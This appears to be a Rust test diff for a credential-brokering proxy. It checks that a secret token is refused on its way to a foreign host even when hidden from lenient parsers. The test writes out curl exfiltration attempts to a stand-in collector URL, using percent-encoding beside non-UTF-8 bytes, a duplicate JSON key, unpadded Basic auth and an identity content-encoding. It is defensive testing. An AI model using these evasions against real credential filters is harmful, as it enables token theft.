@@ -987,3 +987,66 @@ async fn tokens_in_bodies_are_replaced_only_in_credential_fields_for_providers_t
     assert_eq!(s.mock.requests().len(), before);
     s.broker.stop().await;
 }
+
+#[tokio::test]
+async fn tokens_only_a_lenient_reader_sees_are_refused_on_their_way_to_another_host() {
+    let s = setup("").await;
+    let t = &s.token;
+    let encoded = t.replacen('_', "%5F", 1);
+    let dir = tempfile::tempdir().unwrap();
+    // Bytes that aren't UTF-8 beside a percent-encoded token: servers still decode it.
+    let form_file = dir.path().join("form");
+    let mut form = b"a=\xff&k=".to_vec();
+    form.extend_from_slice(encoded.as_bytes());
+    std::fs::write(&form_file, form).unwrap();
+    let header_file = dir.path().join("header");
+    let mut cookie = format!("cookie: k={encoded}; b=").into_bytes();
+    cookie.extend_from_slice(b"\xff\n");
+    std::fs::write(&header_file, cookie).unwrap();
+    let (form_arg, header_arg) = (
+        format!("@{}", form_file.display()),
+        format!("@{}", header_file.display()),
+    );
+    // A repeated JSON key: a parser keeping the last value sees no token, the upstream's
+    // may keep the first.
+    let repeated = format!(r#"{{"x":"{t}","x":1}}"#);
+    let json = format!(r#"{{"x":"{t}"}}"#);
+    // Basic credentials without their padding, as lenient decoders take them.
+    let unpadded = format!(
+        "authorization: Basic {}",
+        BASE64.encode(format!("a:{t}")).trim_end_matches('=')
+    );
+    assert!(BASE64.encode(format!("a:{t}")).ends_with('='));
+    let to = "https://echo.example.test/collect";
+    let before = s.mock.requests().len();
+    for args in [
+        vec!["-H", "content-type: application/json", "-d", &repeated, to],
+        vec!["--data-binary", &form_arg, to],
+        vec!["-H", &header_arg, to],
+        vec!["-H", &unpadded, to],
+        // `identity` is no content coding: the body is as readable as without it.
+        vec![
+            "-H",
+            "content-type: application/json",
+            "-H",
+            "content-encoding: identity",
+            "-d",
+            &json,
+            to,
+        ],
+    ] {
+        let refused = curl(&s, &args).await;
+        assert_eq!(refused.status, 403, "{args:?}: {refused:#?}");
+        assert_eq!(
+            refused.seks_error(),
+            Some("token_to_foreign_host"),
+            "{args:?}: {refused:#?}"
+        );
+    }
+    assert_eq!(
+        s.mock.requests().len(),
+        before,
+        "nothing reached the other host"
+    );
+    s.broker.stop().await;
+}
